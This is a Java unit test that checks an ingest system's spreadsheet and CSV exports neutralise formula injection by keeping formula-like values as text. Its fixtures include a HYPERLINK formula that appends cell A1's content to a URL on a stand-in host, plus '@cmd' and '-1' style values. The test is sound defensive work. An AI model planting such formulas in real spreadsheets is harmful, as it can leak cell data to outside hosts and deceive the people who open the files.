package io.industrypulse.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import io.industrypulse.enterprise.CreditCode;
import io.industrypulse.ingest.CanonicalPackage.EnterpriseRow;
import io.industrypulse.ingest.CanonicalPackage.RegionRow;
import java.io.ByteArrayInputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.YearMonth;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The ingest exports (error workbook, canonical CSV package) keep formula-like names as text. */
class ExportFormulaGuardTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/x?\"&A1,\"点此查看\")";

    @TempDir
    Path dir;

    @Test
    void theErrorWorkbookCopiesAFormulaLikeNameAsQuotedText() throws Exception {
        Path source = dir.resolve("hostile.xlsx");
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            Sheet sheet = workbook.createSheet("B204-1");
            Row header = sheet.createRow(0);
            header.createCell(0).setCellValue("统一社会信用代码");
            header.createCell(1).setCellValue("企业名称");
            Row row = sheet.createRow(1);
            row.createCell(0).setCellValue("@cmd");
            row.createCell(1).setCellValue(HYPERLINK);
            try (OutputStream out = Files.newOutputStream(source)) {
                workbook.write(out);
            }
        }
        byte[] copy = ErrorWorkbook.write(
                source, "B204-1", 0, List.of(new ImportProblem("B204-1", 2, "A", "H6", "统一社会信用代码无效")));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(copy))) {
            Row row = workbook.getSheet("B204-1").getRow(1);
            for (int c = 0; c < 2; c++) {
                Cell cell = row.getCell(c);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
            }
            assertThat(row.getCell(1).getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("@cmd");
            assertThat(workbook.getSheet("B204-1")
                            .getRow(0)
                            .getCell(0)
                            .getCellStyle()
                            .getQuotePrefixed())
                    .isFalse();
        }
    }

    @Test
    void theCanonicalPackageWritesFormulaLikeNamesWithAnApostropheAndReadsThemBack() throws Exception {
        String code = CreditCode.withCheckCharacter("91130102MA0000000");
        CanonicalPackage data = new CanonicalPackage(
                List.of(
                        new RegionRow("130000", "示例省", "province", null),
                        new RegionRow("130100", "示例市", "city", "130000"),
                        new RegionRow("130102", "-1区", "county", "130100")),
                List.of(new EnterpriseRow(code, HYPERLINK, "130102", "39", YearMonth.of(2025, 1))),
                List.of(),
                List.of(),
                List.of(),
                List.of(),
                List.of());
        new CanonicalPackageWriter().write(data, dir, true);
        String enterprises = Files.readString(dir.resolve("enterprises.csv"), StandardCharsets.UTF_8);
        assertThat(enterprises).contains(",\"'=HYPERLINK(\"\"http://example.invalid/x?\"\"&A1,\"\"点此查看\"\")\",130102,");
        assertThat(Files.readString(dir.resolve("regions.csv"))).contains("130102,'-1区,county");
        CanonicalPackage read = CanonicalPackageReader.read(dir);
        assertThat(read.enterprises()).extracting(EnterpriseRow::name).containsExactly(HYPERLINK);
        assertThat(read.regions()).extracting(RegionRow::name).contains("-1区");
    }
}
